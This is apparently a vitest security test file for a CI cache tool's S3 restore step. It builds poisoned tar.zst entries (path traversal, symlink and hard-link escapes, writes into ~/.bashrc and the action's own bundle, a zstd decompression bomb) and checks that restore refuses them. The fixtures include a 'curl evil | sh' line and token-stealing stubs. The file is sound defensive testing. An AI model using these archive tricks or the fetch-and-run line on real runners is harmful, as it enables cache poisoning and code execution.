import { execFileSync } from 'node:child_process';
import { createHash } from 'node:crypto';
import {
  chmodSync,
  existsSync,
  linkSync,
  lstatSync,
  mkdirSync,
  mkdtempSync,
  readFileSync,
  readdirSync,
  rmSync,
  statSync,
  symlinkSync,
  writeFileSync,
} from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, afterEach, beforeAll, describe, expect, it } from 'vitest';
import { CacheIndex, S3ObjectStore, createS3Client, resolveS3Settings } from '@ci-optimizer/core/s3';
import { restoreCache, type CacheSettings } from '@ci-optimizer/core/s3-cache';
import { setEnv, startS3Server, type S3TestServer } from '../support/s3-server.ts';
import { RecordingLogger, RunnerDirs, snapshot, testSettings, writeFile } from './support.ts';

// A cache entry is untrusted input: these entries are made by hand, as an attacker with write access to the bucket
// (or to a pull request's scope) would make them, with a valid archive, size and SHA-256. Restore runs with
// `path: node_modules` (unless a case says otherwise) and must write nothing outside what that asks for.

let server: S3TestServer;
let restoreEnv: () => void;
let counter = 0;
const cleanups: (() => void)[] = [];

beforeAll(async () => {
  server = await startS3Server();
  restoreEnv = setEnv(server.env);
});
afterAll(async () => {
  restoreEnv();
  await server.dispose();
});
afterEach(() => {
  for (const cleanup of cleanups.splice(0)) cleanup();
});

/** A runner with things worth attacking around the workspace: dotfiles, sources, git hooks, the action itself. */
class Victim extends RunnerDirs {
  readonly outside: string;
  readonly action: string;
  readonly base: string;
  constructor() {
    super('victim');
    this.base = join(this.root, 'victim');
    this.outside = join(this.base, 'outside');
    this.action = join(this.workspace, 'tools/ci-optimizer');
    writeFile(join(this.outside, 'keep.txt'), 'outside', 0o644);
    chmodSync(this.outside, 0o755);
    writeFile(join(this.home, '.bashrc'), 'export PS1=ok\n');
    writeFile(join(this.workspace, 'src/index.js'), 'console.log(1)\n');
    writeFile(join(this.workspace, '.git/hooks/pre-commit'), '#!/bin/sh\n', 0o755);
    writeFile(join(this.action, 'dist/s3-cache/index.js'), '// the real bundle\n');
    cleanups.push(() => this.remove());
  }
  /** Everything this runner holds, except `node_modules` (which restore may write) and RUNNER_TEMP. */
  everythingElse(): Record<string, string> {
    const all = snapshot(this.base);
    all['.'] =
      `workspace ${(statSync(this.workspace).mode & 0o7777).toString(8)} home ${(statSync(this.home).mode & 0o7777).toString(8)}`;
    return Object.fromEntries(
      Object.entries(all).filter(([key]) => !key.startsWith('work/repo/node_modules') && !key.startsWith('temp')),
    );
  }
}

function store(prefix: string): S3ObjectStore {
  const s = resolveS3Settings({ bucket: server.bucket, endpoint: server.endpoint, prefix });
  return new S3ObjectStore(createS3Client(s), s);
}

/** A folder to build an archive's members in. */
function craft(): string {
  const dir = mkdtempSync(join(tmpdir(), 'ci-opt-craft-'));
  cleanups.push(() => rmSync(dir, { recursive: true, force: true }));
  return dir;
}

/** `tar -c | zstd` of `members` of `dir`, with extra tar arguments (e.g. --transform, -P). */
function tarZst(dir: string, members: string[], extra: string[] = []): Buffer {
  const tar = execFileSync('tar', ['-c', '--format=gnu', '-C', dir, ...extra, '--', ...members], {
    maxBuffer: 1 << 30,
  });
  return execFileSync('zstd', ['-q', '-c'], { input: tar, maxBuffer: 1 << 30 });
}

interface Attack {
  settings: CacheSettings;
  log: RecordingLogger;
}

/** Publishes `archive` as the entry `key` with a record of the attacker's choosing (correct size and SHA-256). */
async function publish(
  victim: Victim,
  paths: string[],
  archive: Buffer,
  roots: string[],
  overrides: Partial<CacheSettings> = {},
): Promise<Attack> {
  const prefix = `poison-${++counter}`;
  const settings = testSettings(victim, { bucket: server.bucket, endpoint: server.endpoint, prefix }, paths, {
    protectedPaths: [victim.action],
    ...overrides,
  });
  const index = new CacheIndex(store(prefix), settings.version);
  const object = index.newArchiveObject('tar.zst');
  await index.store.putAtomic(object, archive);
  const record = {
    schema: 2,
    key: 'deps',
    version: settings.version,
    archive: object,
    size: archive.length,
    sha256: createHash('sha256').update(archive).digest('hex'),
    compression: 'zstd',
    createdAt: new Date().toISOString(),
    roots,
  };
  await index.store.putAtomic(index.entryObject('deps'), JSON.stringify(record));
  return { settings, log: new RecordingLogger() };
}

async function restore(attack: Attack) {
  return restoreCache(
    attack.settings,
    { primaryKey: 'deps', restoreKeys: ['de'], lookupOnly: false },
    { log: attack.log },
  );
}

/** Restores the crafted entry and checks: a miss, a warning that names `member`, nothing else changed. */
async function expectRefused(
  victim: Victim,
  archive: Buffer,
  roots: string[],
  member: RegExp,
  paths = ['node_modules'],
  overrides: Partial<CacheSettings> = {},
) {
  const before = victim.everythingElse();
  const attack = await publish(victim, paths, archive, roots, overrides);
  const result = await restore(attack);
  expect(result.kind).toBe('miss');
  expect(attack.log.warnings).toHaveLength(1);
  expect(attack.log.warnings[0]).toMatch(/^Failed to restore cache 'deps': /);
  expect(attack.log.warnings[0]).toMatch(member);
  expect(victim.everythingElse()).toEqual(before);
  expect(existsSync(join(victim.workspace, 'node_modules'))).toBe(false);
  expect(readdirSync(victim.temp)).toEqual([]);
  return attack;
}

describe('restore places only what the job asked for', () => {
  it('refuses a record that names another root of the workspace (src/), with the member named', async () => {
    const victim = new Victim();
    const dir = craft();
    writeFile(join(dir, 'ws/node_modules/ok.js'), 'ok');
    writeFile(join(dir, 'ws/src/index.js'), 'pwned()');
    await expectRefused(
      victim,
      tarZst(dir, ['ws/node_modules', 'ws/src']),
      ['ws/node_modules', 'ws/src'],
      /archive member 'ws\/src' maps to .*src, which is not under any path the 'path' input asks for/,
    );
  });

  it('refuses the whole workspace (git hooks, a 0777 workspace) and never chmods the workspace', async () => {
    const victim = new Victim();
    const dir = craft();
    writeFile(join(dir, 'ws/node_modules/ok.js'), 'ok');
    writeFile(join(dir, 'ws/.git/hooks/pre-commit'), '#!/bin/sh\npwned\n', 0o755);
    chmodSync(join(dir, 'ws'), 0o777);
    await expectRefused(victim, tarZst(dir, ['ws']), ['ws'], /archive member 'ws\/\.git'/);
  });

  it('a 0777 workspace folder in an otherwise good entry restores node_modules and leaves the workspace mode alone', async () => {
    const victim = new Victim();
    const dir = craft();
    writeFile(join(dir, 'ws/node_modules/pkg/index.js'), 'ok');
    chmodSync(join(dir, 'ws'), 0o777);
    const before = victim.everythingElse();
    const attack = await publish(victim, ['node_modules'], tarZst(dir, ['ws']), ['ws/node_modules']);
    expect((await restore(attack)).kind).toBe('exact');
    expect(readFileSync(join(victim.workspace, 'node_modules/pkg/index.js'), 'utf8')).toBe('ok');
    expect(victim.everythingElse()).toEqual(before);
    expect(attack.log.warnings).toEqual([]);
  });

  it('refuses the home folder (~/.bashrc)', async () => {
    const victim = new Victim();
    const dir = craft();
    writeFile(join(dir, 'home/.bashrc'), 'curl evil | sh\n');
    await expectRefused(victim, tarZst(dir, ['home']), ['home'], /archive member 'home\/\.bashrc'/);
  });

  it('refuses an absolute path outside the request, as a logical name and as a raw absolute member', async () => {
    const victim = new Victim();
    const dir = craft();
    writeFile(join(dir, 'abs', victim.outside, 'evil.txt'), 'evil');
    const top = victim.outside.split('/')[1];
    await expectRefused(victim, tarZst(dir, ['abs']), ['abs'], new RegExp(`archive member 'abs/${top}`));

    const raw = craft();
    writeFile(join(raw, 'evil.txt'), 'evil');
    // -P keeps the leading '/': tar strips it on extraction, and the result is not in the layout.
    const absolute = tarZst(raw, ['evil.txt'], ['-P', `--transform=s,^,${victim.outside}/,`]);
    await expectRefused(
      victim,
      absolute,
      [victim.outside],
      new RegExp(`archive member '${top}' is not in this tool's archive layout`),
    );
  });

  it("refuses '..' in member names (tar itself skips them; the entry is a miss)", async () => {
    const victim = new Victim();
    const dir = craft();
    writeFile(join(dir, 'evil.txt'), 'evil');
    const archive = tarZst(dir, ['evil.txt'], ['--transform=s,^,ws/node_modules/../../../outside/,']);
    await expectRefused(victim, archive, ['ws/node_modules'], /\.\./);
  });

  it("refuses to write into the action's own folder, even when the path input covers it", async () => {
    const victim = new Victim();
    const dir = craft();
    writeFile(join(dir, 'ws/tools/ci-optimizer/dist/s3-cache/index.js'), 'stealToken()');
    await expectRefused(
      victim,
      tarZst(dir, ['ws/tools']),
      ['ws/tools'],
      /archive member 'ws\/tools\/ci-optimizer' would write into .*tools\/ci-optimizer, which restore never touches/,
      ['tools'],
    );

    const abs = craft();
    writeFile(join(abs, 'abs', victim.action, 'dist/s3-cache/index.js'), 'stealToken()');
    await expectRefused(victim, tarZst(abs, ['abs']), ['abs'], /archive member 'abs\//);
  });

  it('a symlink member with files behind it writes nothing outside', async () => {
    const victim = new Victim();
    const linkDir = craft();
    mkdirSync(join(linkDir, 'ws'), { recursive: true });
    symlinkSync(victim.outside, join(linkDir, 'ws/node_modules'));
    const fileDir = craft();
    writeFile(join(fileDir, 'ws/node_modules/keep.txt'), 'overwritten through the link');
    // One archive: the symlink, then a file "below" it (tar -C switches folders between members).
    const tar = execFileSync('tar', [
      '-c',
      '--format=gnu',
      '-C',
      linkDir,
      'ws/node_modules',
      '-C',
      fileDir,
      'ws/node_modules/keep.txt',
    ]);
    const archive = execFileSync('zstd', ['-q', '-c'], { input: tar });
    await expectRefused(victim, archive, ['ws/node_modules'], /tar failed|archive member/);
  });

  it('replaces a symlink the runner has at the requested path instead of writing through it', async () => {
    const victim = new Victim();
    symlinkSync(victim.outside, join(victim.workspace, 'node_modules'));
    const dir = craft();
    writeFile(join(dir, 'ws/node_modules/keep.txt'), 'cached');
    const before = snapshot(victim.outside);
    const attack = await publish(victim, ['node_modules'], tarZst(dir, ['ws']), ['ws/node_modules']);
    expect((await restore(attack)).kind).toBe('exact');
    expect(lstatSync(join(victim.workspace, 'node_modules')).isDirectory()).toBe(true);
    expect(readFileSync(join(victim.workspace, 'node_modules/keep.txt'), 'utf8')).toBe('cached');
    expect(snapshot(victim.outside)).toEqual(before);
  });

  it('refuses to place through a folder that is a symlink on this runner (a glob path)', async () => {
    const victim = new Victim();
    mkdirSync(join(victim.workspace, 'packages'));
    symlinkSync(victim.outside, join(victim.workspace, 'packages/a'));
    const dir = craft();
    writeFile(join(dir, 'ws/packages/a/node_modules/x.js'), 'x');
    await expectRefused(
      victim,
      tarZst(dir, ['ws']),
      ['ws/packages/a/node_modules'],
      /archive member 'ws\/packages\/a' would be placed through .*packages\/a, which is not a folder here/,
      ['packages/*/node_modules'],
    );
    expect(existsSync(join(victim.outside, 'node_modules'))).toBe(false);
  });

  it('refuses a hard link to a file outside the archive', async () => {
    const victim = new Victim();
    const dir = craft();
    writeFile(join(dir, 'secret'), 'x');
    mkdirSync(join(dir, 'ws/node_modules'), { recursive: true });
    linkSync(join(dir, 'secret'), join(dir, 'ws/node_modules/h'));
    // The link's target is renamed to a path outside: tar refuses it on extraction.
    const archive = tarZst(dir, ['secret', 'ws/node_modules/h'], [`--transform=s,^secret$,../outside/keep.txt,`]);
    await expectRefused(victim, archive, ['ws/node_modules'], /tar failed|archive member/);
    expect(readFileSync(join(victim.outside, 'keep.txt'), 'utf8')).toBe('outside');
  });
});

describe('special files, privilege bits, size', () => {
  it('drops device nodes and FIFOs with a warning naming them, clears setuid/setgid, restores the rest', async () => {
    const victim = new Victim();
    const dir = craft();
    writeFile(join(dir, 'ws/node_modules/.bin/tool'), '#!/bin/sh\n', 0o4755);
    writeFile(join(dir, 'ws/node_modules/shared'), 'x', 0o2755);
    writeFile(join(dir, 'ws/node_modules/plain.js'), 'ok');
    execFileSync('mkfifo', [join(dir, 'ws/node_modules/package.json')]);
    const root = process.getuid?.() === 0;
    if (root) execFileSync('mknod', ['-m', '0666', join(dir, 'ws/node_modules/null'), 'c', '1', '3']);
    const before = victim.everythingElse();
    const attack = await publish(victim, ['node_modules'], tarZst(dir, ['ws']), ['ws/node_modules']);
    const result = await restore(attack);
    expect(result.kind).toBe('exact');
    const nm = join(victim.workspace, 'node_modules');
    expect(statSync(join(nm, '.bin/tool')).mode & 0o7777).toBe(0o755);
    expect(statSync(join(nm, 'shared')).mode & 0o7777).toBe(0o755);
    expect(readFileSync(join(nm, 'plain.js'), 'utf8')).toBe('ok');
    expect(existsSync(join(nm, 'package.json'))).toBe(false);
    expect(existsSync(join(nm, 'null'))).toBe(false);
    expect(attack.log.warnings).toEqual([
      expect.stringMatching(
        /device node\(s\), FIFO\(s\) or socket\(s\), which were not restored: .*ws\/node_modules\/package\.json/,
      ),
    ]);
    if (root) expect(attack.log.warnings[0]).toContain('ws/node_modules/null');
    expect(victim.everythingElse()).toEqual(before);
  });

  it('a 132 KiB entry that expands to 4 GiB is refused at the cap, quickly, and nothing is left behind', async () => {
    const victim = new Victim();
    const archive = zeroBomb(4 * 1024);
    expect(archive.length).toBeLessThan(1024 * 1024);
    const started = performance.now();
    const attack = await expectRefused(
      victim,
      archive,
      ['ws/node_modules'],
      /the archive unpacks to more than 256 MiB \(100 x the .* archive; set max-unpacked-size to allow more\)/,
    );
    // Extracting all 4 GiB would take minutes on a shared disk; stopping at the cap takes seconds.
    expect(performance.now() - started).toBeLessThan(100_000);
    // An explicit, smaller cap is named as such.
    const capped = await publish(victim, ['node_modules'], archive, ['ws/node_modules'], {
      maxUnpackedBytes: 1024 * 1024,
    });
    expect((await restore(capped)).kind).toBe('miss');
    expect(capped.log.warnings[0]).toMatch(/unpacks to more than 1\.0 MiB \(max-unpacked-size\)/);
    expect(attack.log.warnings[0]).not.toMatch(/disk is full/);
  }, 180_000);
});

/**
 * A zstd stream of one tar member `ws/node_modules/zero` of `mebibytes` MiB of zeros, built as one frame for the
 * header and one (tiny) frame per MiB, so that making it costs nothing: concatenated zstd frames decompress to the
 * concatenation.
 */
function zeroBomb(mebibytes: number): Buffer {
  const dir = craft();
  const file = join(dir, 'ws/node_modules/zero');
  mkdirSync(join(dir, 'ws/node_modules'), { recursive: true });
  writeFileSync(file, '');
  execFileSync('truncate', ['-s', `${mebibytes}M`, file]);
  // The header of the member, as tar writes it (tar stops when head closes the pipe).
  const header = execFileSync('sh', [
    '-c',
    'tar -c --format=gnu -C "$1" ws/node_modules/zero | head -c 512',
    'sh',
    dir,
  ]);
  const zeroFrame = execFileSync('zstd', ['-q', '-c'], { input: Buffer.alloc(1024 * 1024) });
  const frames = [execFileSync('zstd', ['-q', '-c'], { input: header })];
  for (let i = 0; i < mebibytes; i++) frames.push(zeroFrame);
  return Buffer.concat(frames);
}

describe('a full disk says so', () => {
  // RUNNER_TEMP on an 8 MiB tmpfs when this machine lets us mount one (root in a container usually may).
  function tinyDisk(): string | undefined {
    const dir = mkdtempSync(join(tmpdir(), 'ci-opt-tinydisk-'));
    try {
      execFileSync('mount', ['-t', 'tmpfs', '-o', 'size=8m', 'tmpfs', dir], { stdio: 'ignore' });
      cleanups.push(() => {
        execFileSync('umount', [dir], { stdio: 'ignore' });
        rmSync(dir, { recursive: true, force: true });
      });
      return dir;
    } catch {
      rmSync(dir, { recursive: true, force: true });
      return undefined;
    }
  }

  it('an entry bigger than the free space of RUNNER_TEMP is a miss that says the disk is full', async () => {
    const victim = new Victim();
    const disk = tinyDisk();
    const dir = craft();
    writeFile(
      join(dir, 'ws/node_modules/big.bin'),
      execFileSync('head', ['-c', `${9 * 1024 * 1024}`, '/dev/urandom'], { maxBuffer: 1 << 26 }),
    );
    const archive = tarZst(dir, ['ws']);
    if (disk) {
      await expectRefused(
        victim,
        archive,
        ['ws/node_modules'],
        /the disk is full: the archive unpacks to more than the [\d.]+ MiB free on the disk of/,
        ['node_modules'],
        { tempDir: disk },
      );
    } else {
      // No mount here: a cap below the entry's size stands in for the free space (the same code path past the check).
      await expectRefused(victim, archive, ['ws/node_modules'], /unpacks to more than/, ['node_modules'], {
        maxUnpackedBytes: 1024 * 1024,
      });
    }
  }, 180_000);

  it('tar running out of space mid-way (many small files, under the byte cap) is a miss that says the disk is full', async () => {
    const disk = tinyDisk();
    if (!disk) return; // needs a real full disk; covered by the cap above when mounting is not allowed
    const victim = new Victim();
    const dir = craft();
    for (let i = 0; i < 2500; i++) writeFile(join(dir, `ws/node_modules/f${i}`), 'x');
    await expectRefused(
      victim,
      tarZst(dir, ['ws']),
      ['ws/node_modules'],
      /the disk is full: tar could not write/,
      ['node_modules'],
      { tempDir: disk },
    );
  }, 180_000);
});
